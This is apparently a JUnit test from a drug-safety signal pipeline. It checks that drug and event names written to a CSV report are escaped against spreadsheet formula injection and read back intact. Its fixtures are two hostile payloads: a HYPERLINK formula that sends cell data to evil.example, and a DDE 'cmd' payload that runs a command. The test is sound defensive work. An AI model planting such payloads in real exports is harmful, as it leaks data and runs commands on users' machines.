package org.iago.disproportionality;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import org.apache.spark.sql.Dataset;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.SparkSession;
import org.apache.spark.sql.types.DataTypes;
import org.apache.spark.sql.types.StructType;
import org.iago.lake.LakePaths;
import org.iago.csv.CsvTable;
import org.iago.stats.SignalThresholds;
import org.iago.testing.SharedSpark;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Drug and event names that a spreadsheet would run as formulas reach {@code disproportionality.csv} marked, and read
 * back (as the report and the signal status read it) as they were; statistics stay numbers, negative ones included.
 */
class HostileNamesCsvTest {

    private static final String DRUG = "=HYPERLINK(\"http://evil.example/?\"&A1,\"BCMA\")";
    private static final String EVENT = "+1+cmd|' /C calc'!A0";

    @TempDir
    Path work;

    @Test
    void namesAreMarkedInTheCsvAndReadBackUnchanged() throws IOException {
        SparkSession spark = SharedSpark.session();
        // names in sort order are their keys: drugs 0 "=HYPERLINK…", 1 "CD19"; events 0 "+1+cmd…", 1 "-", 2 "CRS"
        KeyNames drugs = KeyNames.numbering(List.of(DRUG, "CD19"), DataTypes.StringType);
        KeyNames events = KeyNames.numbering(List.of(EVENT, "-", "CRS"), DataTypes.StringType);
        List<Row> reports = new ArrayList<>();
        int[][] drugEventReports = {{0, 0, 9}, {0, 1, 2}, {0, 2, 1}, {1, 0, 1}, {1, 1, 6}, {1, 2, 20}};
        for (int[] p : drugEventReports) {
            for (int i = 0; i < p[2]; i++) {
                reports.add(RowFactory.create("r" + reports.size(), "all", List.of(p[0]), List.of(p[1])));
            }
        }
        Dataset<Row> table = spark.createDataFrame(reports, new StructType().add("report_id", DataTypes.StringType)
                .add("stratum", DataTypes.StringType)
                .add("drug_keys", DataTypes.createArrayType(DataTypes.IntegerType))
                .add("event_keys", DataTypes.createArrayType(DataTypes.IntegerType)));
        Path out = work.resolve("signals");
        new DisproportionalityJob(spark, SignalThresholds.load(Path.of("..", "conf", "iago.yaml")))
                .run(new SignalInput(table, drugs, events), false, LakePaths.location(out));

        Path csv = out.resolve("disproportionality.csv");
        List<String> lines = Files.readAllLines(csv, StandardCharsets.UTF_8);
        assertEquals(7, lines.size(), lines::toString);
        assertTrue(lines.get(1).startsWith("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"BCMA\"\")\",\"'+1+cmd|'"
                + " /C calc'!A0\",9,"), lines.get(1));
        assertTrue(lines.get(5).startsWith("CD19,\"'-\",6,"), lines.get(5));
        assertTrue(lines.stream().anyMatch(l -> l.matches(".*,-[0-9].*")), "a negative statistic is written as a"
                + " number, unmarked: " + lines);
        assertEquals(List.of(DRUG + "|" + EVENT, DRUG + "|-", DRUG + "|CRS", "CD19|" + EVENT, "CD19|-", "CD19|CRS"),
                CsvTable.read(csv).rows().stream().map(r -> r.get("drug") + "|" + r.get("event")).toList());
    }
}
